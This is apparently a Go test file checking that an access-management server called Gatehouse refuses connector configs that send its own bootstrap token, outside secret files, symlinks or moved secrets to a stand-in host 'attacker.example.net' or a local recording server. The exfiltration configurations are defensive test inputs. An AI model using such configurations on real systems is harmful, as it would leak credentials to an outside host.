package api

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse/gatehouse"
	"github.com/gatehouse/gatehouse/connector"
	"github.com/gatehouse/gatehouse/connector/connectors"
	"github.com/gatehouse/gatehouse/internal/provision"
	"github.com/gatehouse/gatehouse/internal/service"
	"github.com/gatehouse/gatehouse/internal/store"
)

// withSystem is the fixture's catalog plus a system corp-scim with the given connector.
func withSystem(connectorYAML string) string {
	return strings.Replace(seedCatalog, "entitlements:\n", `  - id: corp-scim
    name: Corp SCIM
    owner: admin@example.com
    tier: standard
    connector: `+connectorYAML+"\nentitlements:\n", 1)
}

func (f *fixture) postCatalog(t testing.TB, path, yaml string) answer {
	t.Helper()
	return f.do(t, request{method: "POST", path: path, token: f.secrets["admin"], body: yaml,
		contentType: "application/yaml", header: map[string]string{"X-Catalog-File": "systems.yaml"}})
}

// TestConnectorSecretReferences: an admin cannot aim a connector's secret reference at
// Gatehouse's own secrets (token_env: GATEHOUSE_BOOTSTRAP_TOKEN with a URL of their own), nor at
// a file outside the server's secrets directory, nor move a connector to another URL with its
// secrets unchanged without saying so; a catalog stored before these rules is held to them
// when its secrets are used.
func TestConnectorSecretReferences(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, f *fixture) {
		problem := func(a answer, field, want string) {
			t.Helper()
			e := must(t, a, http.StatusBadRequest).errorOf(t)
			for _, d := range e.Details {
				if d.Field == field && d.File == "systems.yaml" && d.Line > 0 && strings.Contains(d.Message, want) {
					return
				}
			}
			t.Fatalf("no problem at %s containing %q: %+v", field, want, e)
		}
		for _, path := range []string{"/api/v1/catalog/plan", "/api/v1/catalog/apply"} {
			problem(f.postCatalog(t, path, withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_env: GATEHOUSE_BOOTSTRAP_TOKEN}`)),
				"systems[corp-scim].connector.token_env", "GATEHOUSE_*")
			// This server was started without a secrets directory: no *_file at all.
			problem(f.postCatalog(t, path, withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_file: /etc/gatehouse/bootstrap}`)),
				"systems[corp-scim].connector.token_file", "--secrets-dir")
		}
		// Connectors trim white space from a reference before they read it; plan and apply judge
		// the same path (" /etc/…" is not a relative name inside the secrets directory).
		dir := t.TempDir()
		withDir := newAPI(service.New(f.st, service.Options{BootstrapToken: bootstrapSecret, Logger: f.api.log, Secrets: &connector.SecretPolicy{Dir: dir}}), Options{Logger: f.api.log})
		w := httptest.NewRecorder()
		r := httptest.NewRequest("POST", "/api/v1/catalog/plan", strings.NewReader(withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_file: " /etc/gatehouse/bootstrap"}`)))
		r.Header.Set("Authorization", "Bearer "+f.secrets["admin"])
		r.Header.Set("Content-Type", "application/yaml")
		withDir.ServeHTTP(w, r)
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), "outside the server") {
			t.Fatalf("plan of a padded path outside the secrets directory: %d %s", w.Code, w.Body)
		}
		must(t, f.as(t, "admin", "GET", "/api/v1/systems/corp-scim", ""), http.StatusNotFound) // nothing applied

		// Moving a connector: its secrets must be named again, or the move confirmed.
		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim.corp.example.com/v2", token_env: CORP_SCIM_TOKEN}`)), s200)
		moved := withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_env: CORP_SCIM_TOKEN}`)
		var plan struct {
			SecretRebinds []struct {
				System  string   `json:"system"`
				Secrets []string `json:"secrets"`
			} `json:"secret_rebinds"`
		}
		must(t, f.postCatalog(t, "/api/v1/catalog/plan", moved), s200).json(t, &plan)
		if len(plan.SecretRebinds) != 1 || plan.SecretRebinds[0].System != "corp-scim" || plan.SecretRebinds[0].Secrets[0] != "token_env=CORP_SCIM_TOKEN" {
			t.Fatalf("plan does not say the move needs a rebind: %+v", plan)
		}
		problem(f.postCatalog(t, "/api/v1/catalog/apply", moved), "systems[corp-scim].connector.url", "--rebind-secrets corp-scim")
		problem(f.postCatalog(t, "/api/v1/catalog/apply?rebind_secrets=wiki", moved), "systems[corp-scim].connector.url", "--rebind-secrets corp-scim")
		var sys gatehouse.System
		must(t, f.as(t, "admin", "GET", "/api/v1/systems/corp-scim", ""), s200).json(t, &sys)
		if sys.Connector.Settings["url"] != "https://scim.corp.example.com/v2" {
			t.Fatalf("refused move applied: %v", sys.Connector.Settings)
		}
		must(t, f.postCatalog(t, "/api/v1/catalog/apply?rebind_secrets=corp-scim", moved), s200)
		// Naming the secrets again in the same change is a rebind too.
		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim2.corp.example.com/v2", token_env: CORP_SCIM_TOKEN_2}`)), s200)
	})
}

// TestConnectorSecretsAtUse: a catalog stored before the rules (written straight to the store
// here) still names GATEHOUSE_* or a file outside the secrets directory; `systems test` refuses
// to resolve them, and the server the catalog names never receives the secret.
func TestConnectorSecretsAtUse(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, f *fixture) {
		const secret = "gh_bootstrap-secret-that-must-stay-home-0123456789"
		env := "GATEHOUSE_TEST_AT_USE_" + strings.ToUpper(f.st.Engine()) // one per engine: tests run in parallel
		os.Setenv(env, secret)
		t.Cleanup(func() { os.Unsetenv(env) })
		dir := t.TempDir()
		outside := filepath.Join(t.TempDir(), "bootstrap")
		if err := os.WriteFile(outside, []byte(secret+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(dir, "innocent")); err != nil {
			t.Fatal(err)
		}
		var mu sync.Mutex
		var seen []string
		attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			seen = append(seen, r.Header.Get("Authorization"))
			mu.Unlock()
			http.Error(w, "no", http.StatusUnauthorized)
		}))
		defer attacker.Close()

		refs := map[string]map[string]any{
			"by-env":  {"token_env": env},
			"by-file": {"token_file": outside},
			"by-link": {"token_file": filepath.Join(dir, "innocent")},
		}
		ctx := context.Background()
		err := f.st.Update(ctx, func(tx store.Tx) error {
			for id, ref := range refs {
				settings := map[string]any{"url": attacker.URL + "/scim/v2"}
				for k, v := range ref {
					settings[k] = v
				}
				s := &gatehouse.System{ID: id, Name: id, Owner: "admin@example.com", Tier: gatehouse.TierStandard,
					Connector: gatehouse.Connector{Type: "scim", Settings: settings}}
				if err := tx.PutSystem(ctx, s); err != nil {
					return err
				}
			}
			return tx.AppendAudit(ctx, &gatehouse.AuditEvent{Actor: "test", Action: "test.catalog", ObjectType: "catalog", ObjectID: "old"})
		})
		if err != nil {
			t.Fatal(err)
		}
		policy := &connector.SecretPolicy{Dir: dir}
		svc := service.New(f.st, service.Options{BootstrapToken: bootstrapSecret, Logger: f.api.log, Secrets: policy,
			Open: func(ctx context.Context, sys *gatehouse.System) (connector.Connector, error) {
				return connectors.OpenSystem(ctx, sys, provision.Tasks{Store: f.st}, connector.OSSecrets{Policy: policy})
			}})
		h := newAPI(svc, Options{Logger: f.api.log})
		for id := range refs {
			w := httptest.NewRecorder()
			r := httptest.NewRequest("POST", "/api/v1/systems/"+id+"/test", nil)
			r.Header.Set("Authorization", "Bearer "+f.secrets["admin"])
			h.ServeHTTP(w, r)
			if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), `"ok":false`) || strings.Contains(w.Body.String(), secret) {
				t.Errorf("systems test %s: %d %s", id, w.Code, w.Body)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		for _, auth := range seen {
			if strings.Contains(auth, secret) {
				t.Fatalf("the attacker's server received the secret: %q", auth)
			}
		}
	})
}

// TestConnectorMoveWithDecoySecret: moving a connector to a URL of one's own while adding an
// unused secret reference (password_env on a token connector) still carries its real secret
// along: the move needs the real one named again, or --rebind-secrets.
func TestConnectorMoveWithDecoySecret(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, f *fixture) {
		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim.corp.example.com/v2", token_env: CORP_SCIM_TOKEN}`)), s200)
		moved := withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_env: CORP_SCIM_TOKEN, password_env: DECOY}`)
		for _, path := range []string{"/api/v1/catalog/plan", "/api/v1/catalog/apply"} {
			a := f.postCatalog(t, path, moved)
			if path == "/api/v1/catalog/plan" {
				if !strings.Contains(string(must(t, a, s200).body), `"token_env=CORP_SCIM_TOKEN"`) {
					t.Fatalf("plan does not say the move needs a rebind: %s", a.body)
				}
				continue
			}
			e := must(t, a, http.StatusBadRequest).errorOf(t)
			if !strings.Contains(fmt.Sprint(e), "--rebind-secrets corp-scim") {
				t.Fatalf("apply: %+v", e)
			}
		}
		var sys gatehouse.System
		must(t, f.as(t, "admin", "GET", "/api/v1/systems/corp-scim", ""), s200).json(t, &sys)
		if sys.Connector.Settings["url"] != "https://scim.corp.example.com/v2" {
			t.Fatalf("the move applied: %v", sys.Connector.Settings)
		}
		// Naming the real secret anew is a rebind; the decoy changes nothing about that.
		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim2.corp.example.com/v2", token_env: CORP_SCIM_TOKEN_2, password_env: DECOY}`)), s200)
	})
}
